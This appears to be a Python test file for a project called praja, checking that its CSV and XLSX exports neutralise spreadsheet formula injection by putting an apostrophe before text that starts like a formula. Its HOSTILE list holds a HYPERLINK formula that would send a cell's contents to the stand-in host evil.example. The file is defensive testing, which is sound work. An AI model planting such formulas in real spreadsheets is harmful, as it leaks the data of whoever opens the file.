"""One writer rule for every XLSX and CSV export (issue 14 item 4): text a spreadsheet would run as a formula
(=, +, -, @, tab, carriage return first) is written as text with an apostrophe in front, in every export."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import openpyxl

from praja import exports_safe
from praja.deployment.xlsx_writer import Book

HOSTILE = ['=HYPERLINK("http://evil.example/leak?d="&A3,"Lihat")', "+62 812", "-1+2", "@SUM(A1)", "\t=1", "\r=1"]
ROOT = Path(__file__).resolve().parent.parent / "praja"


def test_text_starting_like_a_formula_gets_an_apostrophe_and_nothing_else_changes() -> None:
    for value in HOSTILE:
        assert exports_safe.cell(value) == "'" + value
    assert exports_safe.row(["Donomulyo", 12, 3.5, None, "a=b", ""]) == ["Donomulyo", 12, 3.5, None, "a=b", ""]


def test_the_csv_writer_writes_hostile_text_as_plain_text() -> None:
    buf = io.StringIO()
    exports_safe.csv_writer(buf).writerows([["judul", "n"], [HOSTILE[0], -3]])
    rows = list(csv.reader(io.StringIO(buf.getvalue())))
    assert rows == [["judul", "n"], ["'" + HOSTILE[0], "-3"]]  # the number stays a number


def test_the_fast_xlsx_writer_writes_inline_strings_with_the_apostrophe_and_no_formula() -> None:
    book = Book()
    sheet = book.sheet("Rencana")
    for i, value in enumerate(HOSTILE, start=1):
        sheet.cell(i, 1, value)
    sheet.cell(len(HOSTILE) + 1, 1, -7)
    raw = book.save()
    with zipfile.ZipFile(io.BytesIO(raw)) as z:
        xml = z.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"<f " not in xml
    ws = openpyxl.load_workbook(io.BytesIO(raw)).worksheets[0]
    values = [ws.cell(i, 1).value for i in range(1, len(HOSTILE) + 2)]
    assert values[:2] == ["'" + HOSTILE[0], "'+62 812"] and values[-1] == -7
    assert all(ws.cell(i, 1).data_type != "f" for i in range(1, len(HOSTILE) + 2))


def test_openpyxl_workbooks_hold_no_formula_after_the_safe_rows() -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    exports_safe.openpyxl_rows(ws, [[v] for v in HOSTILE])
    ws.append(["=1+1"])  # written behind the module's back
    exports_safe.no_formulas(wb)
    cells = [c for row in ws.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells) and cells[-1].value == "'=1+1"


# Files that write CSV or XLSX without this module: each with the reason it may.
ALLOWED = {
    "exports_safe.py": "the module itself",
    "deployment/xlsx_writer.py": "writes every text through exports_safe.text",
    "uploads.py": "csv_template writes a fixed header and example row only (no user text); hardening's file",
}


def test_every_csv_and_xlsx_export_goes_through_exports_safe() -> None:
    writers = re.compile(r"csv\.(writer|DictWriter)\(|openpyxl\.Workbook\(|from openpyxl import Workbook")
    offenders = []
    for path in ROOT.rglob("*.py"):
        rel = path.relative_to(ROOT).as_posix()
        if "/tests/" in f"/{rel}" or rel in ALLOWED:
            continue
        text = path.read_text("utf-8")
        if writers.search(text) and "exports_safe" not in text:
            offenders.append(rel)
    assert not offenders, f"write CSV/XLSX through praja.exports_safe: {offenders}"
